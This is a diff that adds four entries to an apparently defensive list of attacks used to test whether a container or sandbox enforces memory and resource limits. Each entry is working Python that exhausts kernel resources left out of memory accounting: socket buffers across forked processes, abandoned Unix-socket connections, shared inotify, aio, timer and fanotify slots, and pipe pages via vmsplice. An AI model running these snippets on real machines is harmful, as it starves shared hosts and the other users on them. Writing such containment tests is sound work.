@@ -217,4 +217,107 @@ ATTACKS: list[Attack] = [
             print("attack worked: never chosen when memory is short")
         """,
     ),
+    in_cell(
+        "socket buffers",
+        "Fill the buffers of sockets, in one process and in many: nobody's memory counts them.",
+        """
+        import socket, time
+
+        def fill():
+            size, held = 0, []
+            with contextlib.suppress(OSError):
+                while size < ENOUGH:
+                    for end in (ends := socket.socketpair()):
+                        with contextlib.suppress(OSError):
+                            end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**23)
+                        end.setblocking(False)
+                        with contextlib.suppress(BlockingIOError):
+                            while True:
+                                size += end.send(bytes(2**16))
+                    held.append(ends)
+            return size, held
+
+        size, held = fill()
+        done("socket buffers", size)
+        if contained("pid"):
+            for _ in range(40):
+                if os.fork() == 0:
+                    kept = fill()
+                    time.sleep(20)
+                    os._exit(0)
+            time.sleep(8)
+            used = int(open("/proc/net/sockstat").readline().split()[-1])
+            done("sockets of many", used * 200_000)
+        """,
+        before=LARGE,
+        ran=False,
+    ),
+    in_cell(
+        "connections that wait",
+        "Connect again and again to a socket of one's own, fill each connection and forget it.",
+        """
+        import socket
+
+        size = 0
+        with contextlib.suppress(OSError):
+            here = socket.socket(socket.AF_UNIX)
+            here.bind("\\0mine")
+            here.listen(4096)
+            while size < ENOUGH:
+                there = socket.socket(socket.AF_UNIX)
+                there.connect("\\0mine")
+                there.setblocking(False)
+                with contextlib.suppress(BlockingIOError):
+                    while True:
+                        size += there.send(bytes(2**16))
+                there.close()
+        done("connections", size)
+        """,
+        before=LARGE,
+    ),
+    in_cell(
+        "numbers that all users share",
+        "Take the slots for watching files, for waiting for disks, for queues and for timers.",
+        """
+        import ctypes
+
+        libc = ctypes.CDLL(None, use_errno=True)
+        took = {"inotify": 0, "aio": 0, "mqueue": 0, "timers": 0, "fanotify": 0}
+        context = ctypes.c_ulong(0)
+        for _ in range(300):
+            took["inotify"] += libc.inotify_init1(0) >= 0
+            took["aio"] += libc.syscall(206, 200, ctypes.byref(context)) == 0
+            context = ctypes.c_ulong(0)
+            took["timers"] += libc.timer_create(0, None, ctypes.byref(ctypes.c_void_p())) == 0
+            took["fanotify"] += libc.fanotify_init(0, 0) >= 0
+        print(took)
+        if any(took.values()):
+            print("attack worked: took what all users share:", took)
+        """,
+    ),
+    in_cell(
+        "pages in pipes",
+        "Give pages away to pipes, where they belong to nobody.",
+        """
+        import ctypes, fcntl
+
+        libc = ctypes.CDLL(None, use_errno=True)
+        size = 0
+        page = (ctypes.c_char * 2**16)()
+        vector = (ctypes.c_void_p * 2)(ctypes.addressof(page), 2**16)
+        with contextlib.suppress(OSError):
+            while size < ENOUGH:
+                reader, writer = os.pipe()
+                with contextlib.suppress(OSError):
+                    fcntl.fcntl(writer, 1031, 2**20)
+                taken = libc.vmsplice(writer, ctypes.byref(vector), 1, 2)
+                if taken <= 0:
+                    break
+                size += taken
+        done("pages in pipes", size)
+        if size:
+            print("attack worked: vmsplice")
+        """,
+        before=LARGE,
+    ),
 ]
